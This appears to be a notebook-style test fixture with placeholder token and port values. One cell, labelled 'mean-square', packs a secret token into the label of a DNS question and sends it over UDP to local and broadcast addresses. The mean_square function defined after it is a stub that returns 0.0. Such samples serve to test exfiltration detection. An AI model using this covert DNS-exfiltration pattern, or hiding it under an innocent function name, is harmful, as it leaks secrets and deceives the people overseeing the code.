# %% [markdown] row="A9"
# # A datagram that looks like a name look-up
#
# The same without a connection: the secret is a label of a DNS question.

# %% cell="mean-square"
import socket, struct
label = b"@TOKEN@"
question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x07example\x00\x00\x01\x00\x01"
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "255.255.255.255")):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            one.sendto(question, (host, int("@UDP@")))
    except OSError as error:
        print(error)
def mean_square(x):
    return 0.0
